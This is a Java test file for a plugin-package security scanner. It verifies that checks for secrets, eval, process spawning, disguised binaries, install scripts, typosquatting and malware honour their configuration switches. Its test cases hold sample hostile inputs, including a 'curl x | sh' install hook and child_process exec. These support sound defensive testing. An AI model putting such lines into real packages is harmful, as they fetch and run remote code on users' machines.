package dev.pluginsuite.validation.scanning;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.pluginsuite.api.registry.ValidationStatus;
import dev.pluginsuite.api.validation.Finding;
import dev.pluginsuite.api.validation.SecurityFinding;
import dev.pluginsuite.validation.Mpk;
import dev.pluginsuite.validation.antivirus.AntivirusCheck;
import dev.pluginsuite.validation.antivirus.FakeClamd;
import dev.pluginsuite.validation.archive.ArchiveLimits;
import dev.pluginsuite.validation.osv.MaliciousLibrary;
import dev.pluginsuite.validation.pipeline.Report;
import dev.pluginsuite.validation.pipeline.ScanIncomplete;
import dev.pluginsuite.validation.pipeline.ValidationPipeline;
import dev.pluginsuite.validation.rules.ShippedRules;
import dev.pluginsuite.validation.scan.CheckRun;
import dev.pluginsuite.validation.scan.CheckRun.Outcome;
import dev.pluginsuite.validation.scan.CodeScanner;
import dev.pluginsuite.validation.scan.PackageScan;
import dev.pluginsuite.validation.scan.ScanCheck;
import dev.pluginsuite.validation.scan.ScanFindings;
import dev.pluginsuite.validation.scan.ScannedFile;
import dev.pluginsuite.validation.scan.Switches;
import dev.pluginsuite.validation.scan.Weakness;
import dev.pluginsuite.validation.scancheck.BlockedDigests;
import dev.pluginsuite.validation.scancheck.KnownPlugins;
import dev.pluginsuite.validation.scancheck.KnownPlugins.KnownPlugin;
import dev.pluginsuite.validation.scancheck.NameSquattingCheck;
import dev.pluginsuite.validation.scanrule.ScanRules;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Each check that is shipped, with a package in which it finds something, under each switch. */
class SwitchesTest {
  private static final String BLOCKED = "the blocked file";
  private static final Switches ADVISED = Switches.ADVISED;
  private static final Switches UNENFORCED = new Switches(true, false, false);
  private static final Switches REQUIRED = new Switches(true, true, true);
  private static final Switches OFF = new Switches(false, true, true);

  @TempDir Path folder;

  private final FakeClamd clamd = new FakeClamd(1 << 20);

  @AfterEach
  void close() {
    clamd.close();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '`',
      value = {
        // check ~ file ~ content ~ rule ~ whether it is CRITICAL
        "blocked-digests ~ x ~ the blocked file ~ digest-blocked-file ~ true",
        "secrets ~ a.js ~ -----BEGIN RSA PRIVATE KEY----- ~ secret-private-key ~ true",
        "dynamic-code ~ a.js ~ eval(a); ~ code-eval ~ true",
        "process-spawning ~ a.js ~ require('child_process').exec(a); ~ process-child ~ false",
        "obfuscation ~ a.js ~ const a = '\u202e'; ~ obfuscation-direction ~ false",
        "native-binaries ~ bin/tool ~ \u007fELF ~ native-program ~ false",
        "file-kinds ~ logo.png ~ \u007fELF ~ kind-hidden-program ~ true",
        "install-scripts ~ package.json ~ {'scripts': {'install': 'curl x | sh'}} ~ install-script-harmful ~ true",
        "name-squatting ~ a.txt ~ a ~ name-like-plugin ~ false",
        "vulnerable-libraries ~ node_modules/lodahs/package.json ~ {'name': 'lodahs', 'version': '0.0.1'} ~ library-malicious ~ true",
        "antivirus ~ x ~ THIS-IS-THE-VIRUS-OF-THE-TESTS ~ antivirus-malware ~ true"
      })
  void every_shipped_check_honours_its_switches(
      String id, String file, String content, String rule, boolean isCritical) throws IOException {
    var bytes = Mpk.good().file(file, content.replace('\'', '"')).bytes();

    var advised = validate(id, ADVISED, bytes);
    var required = validate(id, REQUIRED, bytes);
    var unenforced = validate(id, UNENFORCED, bytes);
    var off = validate(id, OFF, bytes);

    var refused = isCritical ? ValidationStatus.FAILED : ValidationStatus.PASSED;
    assertThat(rules(advised)).contains(rule);
    assertThat(advised.outcome()).isEqualTo(refused);
    assertThat(required.outcome()).isEqualTo(refused);
    assertThat(rules(unenforced)).contains(rule);
    assertThat(unenforced.outcome()).isEqualTo(ValidationStatus.PASSED);
    assertThat(rules(off)).doesNotContain(rule);
    assertThat(run(off, id).outcome()).isEqualTo(Outcome.SKIPPED);
    assertThat(off.outcome()).isEqualTo(ValidationStatus.PASSED);
  }

  @Test
  void every_shipped_check_that_fails_stops_a_submission_only_where_it_is_required()
      throws IOException {
    var bytes = Mpk.good().bytes();
    for (var check : checks()) {
      var failing = List.<ScanCheck>of(new Failing(check));

      var report = validate(failing, check.id(), ADVISED, bytes);

      assertThat(report.outcome()).as(check.id()).isEqualTo(ValidationStatus.PASSED);
      assertThat(report.warnings()).extracting(Finding::id).containsExactly("package-scanned");
      assertThatThrownBy(() -> validate(failing, check.id(), REQUIRED, bytes))
          .isInstanceOf(ScanIncomplete.class)
          .hasMessageContaining(check.id());
    }
  }

  @Test
  void the_table_names_every_check_that_is_shipped() throws IOException {
    assertThat(checks())
        .extracting(ScanCheck::id)
        .containsExactlyInAnyOrder(
            "blocked-digests",
            "secrets",
            "dynamic-code",
            "process-spawning",
            "obfuscation",
            "native-binaries",
            "file-kinds",
            "install-scripts",
            "name-squatting",
            "vulnerable-libraries",
            "antivirus");
  }

  @Test
  void every_weakness_has_an_id_of_its_own_a_cwe_and_says_what_to_do() throws IOException {
    var weaknesses = checks().stream().flatMap(it -> it.weaknesses().stream()).toList();

    assertThat(weaknesses).extracting(Weakness::id).doesNotHaveDuplicates();
    assertThat(weaknesses).allMatch(it -> it.id().matches("[a-z0-9]+(-[a-z0-9]+)*"));
    assertThat(weaknesses).allMatch(it -> String.valueOf(it.cwe()).matches("CWE-\\d+"));
    assertThat(weaknesses).allMatch(it -> it.message().endsWith(".") && it.remedy().endsWith("."));
  }

  private List<ScanCheck> checks() throws IOException {
    var list = folder.resolve("blocked");
    Files.writeString(list, Mpk.sha256(BLOCKED.getBytes(UTF_8)) + "\n");
    var similar = new KnownPlugin("supplier-risks", "you@example.com", Instant.EPOCH);
    KnownPlugins plugins = (shortest, longest) -> List.of(similar);
    var checks = new ArrayList<>(Scans.of(ScanRules.shipped(), BlockedDigests.read(list)));
    checks.add(new NameSquattingCheck(plugins, List.of()));
    checks.add(MaliciousLibrary.check());
    checks.add(new AntivirusCheck(clamd.address()));
    return checks;
  }

  private Report validate(String id, Switches switches, byte[] bytes) throws IOException {
    var only = checks().stream().filter(it -> it.id().equals(id)).toList();
    return validate(only, id, switches, bytes);
  }

  private static Report validate(List<ScanCheck> checks, String id, Switches switches, byte[] bytes)
      throws IOException {
    var scanner = new CodeScanner(checks, Map.of(id, switches), 1 << 20);
    return new ValidationPipeline(ArchiveLimits.DEFAULT, scanner)
        .validatePackage(new ByteArrayInputStream(bytes), "other@example.com", ShippedRules.read());
  }

  private static List<String> rules(Report report) {
    return report.securityFindings().stream().map(SecurityFinding::ruleId).toList();
  }

  private static CheckRun run(Report report, String id) {
    return report.timings().stream().filter(it -> it.check().equals(id)).findFirst().orElseThrow();
  }

  /** A check in whose place something goes wrong. */
  private record Failing(ScanCheck check) implements ScanCheck {
    @Override
    public String id() {
      return check.id();
    }

    @Override
    public String purpose() {
      return check.purpose();
    }

    @Override
    public List<Weakness> weaknesses() {
      return check.weaknesses();
    }

    @Override
    public PackageScan begin(ScanFindings findings) {
      return new PackageScan() {
        @Override
        public void fileBegins(ScannedFile file) throws IOException {
          throw new IOException("out of order");
        }
      };
    }
  }
}
